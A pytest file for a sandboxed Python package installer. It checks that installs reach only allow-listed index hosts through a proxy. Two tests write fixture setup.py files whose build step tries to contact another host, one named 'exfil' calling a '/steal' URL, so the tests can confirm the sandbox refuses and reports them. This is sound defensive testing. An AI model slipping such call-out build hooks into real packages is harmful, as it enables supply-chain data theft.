"""Installs reach the package index and nothing else (runner.index_proxy, runner.environments.sandboxed_install):
the allow-list from the index configuration, a real install from the index through the proxy, and a build step
(a local package's setup.py) that tries to reach another host: refused, and the install's outcome says so."""
from __future__ import annotations

import socket
import textwrap
import threading

import pytest

from runner import environments as envs
from runner import index_proxy, local


def test_allow_list_from_uv_and_pip_configuration(tmp_path, monkeypatch):
    conf = tmp_path / "pip.conf"
    conf.write_text("[global]\nindex-url = https://mirror.example.com/simple\n"
                    "extra-index-url = file:///opt/pypi/simple https://extra.example.com:8443/simple\n"
                    "find-links = /opt/wheels http://wheels.example.com/\n")
    monkeypatch.setenv("XDG_CONFIG_DIRS", str(tmp_path / "none"))
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("PIP_CONFIG_FILE", str(conf))
    for var in ("PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_FIND_LINKS", "UV_INDEX", "UV_EXTRA_INDEX_URL",
                "REPGEN_INDEX_HOSTS"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("UV_DEFAULT_INDEX", "https://uv.example.com/simple")
    monkeypatch.setattr(index_proxy.sys, "prefix", str(tmp_path / "prefix"))
    hosts = index_proxy.allowed_hosts()
    # neither installer uses PyPI here: no pypi.org; file:// and folders need no network
    assert hosts == {("mirror.example.com", 443), ("extra.example.com", 8443), ("wheels.example.com", 80),
                     ("uv.example.com", 443)}
    monkeypatch.delenv("UV_DEFAULT_INDEX")                     # uv on its default index: PyPI's two hosts
    monkeypatch.setenv("REPGEN_INDEX_HOSTS", "cache.internal:3141")
    hosts = index_proxy.allowed_hosts()
    assert {("pypi.org", 443), ("files.pythonhosted.org", 443), ("cache.internal", 3141)} <= hosts


def test_the_proxy_tunnels_to_allowed_hosts_only(tmp_path):
    """A real client through the Unix socket: CONNECT to a listed host is tunnelled, anything else is a 403."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    port = listener.getsockname()[1]

    def echo():
        conn, _ = listener.accept()
        conn.sendall(conn.recv(100).upper())
        conn.close()
    threading.Thread(target=echo, daemon=True).start()
    with index_proxy.IndexProxy({("127.0.0.1", port)}) as proxy:
        def ask(target: str) -> tuple[bytes, socket.socket]:
            c = socket.socket(socket.AF_UNIX)
            c.connect(proxy.socket_path)
            c.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
            return c.recv(200), c
        status, c = ask(f"127.0.0.1:{port}")
        assert status.startswith(b"HTTP/1.1 200")
        c.sendall(b"hello")
        assert c.recv(100) == b"HELLO"
        status, _ = ask("example.org:443")
        assert status.startswith(b"HTTP/1.1 403") and b"not the package index" in status
        assert proxy.refused == ["example.org:443"] and proxy.reached == [f"127.0.0.1:{port}"]


isolated = pytest.mark.skipif(local.isolation_available() == "subprocess",
                              reason="no network namespace here (neither bubblewrap nor unshare -n)")


@pytest.mark.slow
@isolated
def test_an_install_from_the_index_goes_through_the_proxy(tmp_path):
    root = tmp_path / "envs"
    work = root / "w"
    work.mkdir(parents=True)
    (work / "r.in").write_text("six==1.16.0\n")
    r = envs._uv(["pip", "compile", str(work / "r.in"), "-q", "--no-cache", "-o", str(work / "out.txt")],
                 str(work), str(root), envs.EnvLimits(timeout_s=300))
    assert r.outcome == "passed", r.output_tail
    assert "six==1.16.0" in (work / "out.txt").read_text()
    net = r.environment["network"]
    assert net["refused"] == [] and net["reached"], net          # it reached the index, through the proxy


@pytest.mark.slow
@isolated
def test_a_build_step_that_reaches_another_host_is_refused_and_the_outcome_says_so(tmp_path):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    port = listener.getsockname()[1]
    contacts: list[str] = []

    def accept():
        while True:
            try:
                conn, _ = listener.accept()
            except OSError:
                return
            contacts.append("connected")
            conn.close()
    threading.Thread(target=accept, daemon=True).start()
    root = tmp_path / "envs"
    work = root / "w"
    (work / "exfil").mkdir(parents=True)
    (work / "exfil" / "setup.py").write_text(textwrap.dedent(f"""
        import socket, urllib.request
        from setuptools import setup
        try:                                   # straight to the host's port: the sandbox has no route
            socket.create_connection(("127.0.0.1", {port}), timeout=5).close()
            print("repgen-test direct: connected")
        except OSError as exc:
            print("repgen-test direct:", exc)
        urllib.request.urlopen("http://127.0.0.1:{port}/steal", timeout=10)   # through the proxy variables
        setup(name="exfil", version="0.1", py_modules=[])
    """))
    limits = envs.EnvLimits(timeout_s=300)
    made = envs._uv(["venv", str(work / "venv"), "-q"], str(work), str(root), limits)
    assert made.outcome == "passed", made.output_tail
    r = envs._uv(["pip", "install", "--python", str(work / "venv" / "bin" / "python"), str(work / "exfil")],
                 str(work), str(root), limits)
    assert r.outcome == "failed" and contacts == [], (contacts, r.output_tail)
    assert "repgen-test direct: [Errno" in r.output_tail, r.output_tail      # no route, no connection
    net = r.environment["network"]
    assert net["refused"] == [f"127.0.0.1:{port}"]
    assert any(h.startswith(("pypi.org", "files.pythonhosted.org")) for h in net["reached"]), net  # setuptools came
    reason = envs._reason(r)
    assert reason.startswith(f"the install tried to reach 127.0.0.1:{port}, which is not the package index"), reason
    assert "refused" in reason and "HTTP Error 403" in reason
    listener.close()


@pytest.mark.slow
@isolated
def test_a_build_step_that_connects_directly_finds_no_route_and_the_outcome_says_so(tmp_path):
    """No proxy variables used: a plain socket to an arbitrary host. The sandbox has no route and no DNS."""
    root = tmp_path / "envs"
    work = root / "w"
    (work / "direct").mkdir(parents=True)
    (work / "direct" / "setup.py").write_text(textwrap.dedent("""
        import socket
        from setuptools import setup
        socket.create_connection(("example.org", 80), timeout=10).close()
        setup(name="direct", version="0.1", py_modules=[])
    """))
    limits = envs.EnvLimits(timeout_s=300)
    assert envs._uv(["venv", str(work / "venv"), "-q"], str(work), str(root), limits).outcome == "passed"
    r = envs._uv(["pip", "install", "--python", str(work / "venv" / "bin" / "python"), str(work / "direct")],
                 str(work), str(root), limits)
    assert r.outcome == "failed" and r.environment["network"]["refused"] == [], r.output_tail
    reason = envs._reason(r)
    allowed = index_proxy.describe(index_proxy.allowed_hosts())
    assert reason.startswith(f"a build step tried to reach the network directly (installs may reach only "
                             f"{allowed})"), reason


def test_the_proxy_chains_through_the_hosts_own_proxy(monkeypatch):
    """A host that reaches the index through its own HTTPS_PROXY keeps doing so: the allow-list proxy sends its
    CONNECT there (with the proxy's credentials), never straight to the index."""
    upstream = socket.socket()
    upstream.bind(("127.0.0.1", 0))
    upstream.listen(4)
    seen: list[bytes] = []

    def serve():
        conn, _ = upstream.accept()
        head = b""
        while b"\r\n\r\n" not in head:
            head += conn.recv(1024)
        seen.append(head)
        conn.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")
        conn.sendall(conn.recv(100)[::-1])
        conn.close()
    threading.Thread(target=serve, daemon=True).start()
    monkeypatch.setenv("HTTPS_PROXY", f"http://user:pw@127.0.0.1:{upstream.getsockname()[1]}")
    monkeypatch.delenv("NO_PROXY", raising=False)
    monkeypatch.delenv("no_proxy", raising=False)
    with index_proxy.IndexProxy({("index.example.com", 443)}) as proxy:
        c = socket.socket(socket.AF_UNIX)
        c.connect(proxy.socket_path)
        c.sendall(b"CONNECT index.example.com:443 HTTP/1.1\r\nHost: index.example.com:443\r\n\r\n")
        assert c.recv(200).startswith(b"HTTP/1.1 200")
        c.sendall(b"abc")
        assert c.recv(100) == b"cba"
    assert seen[0].startswith(b"CONNECT index.example.com:443 HTTP/1.1\r\n")
    assert b"Proxy-Authorization: Basic dXNlcjpwdw==" in seen[0]
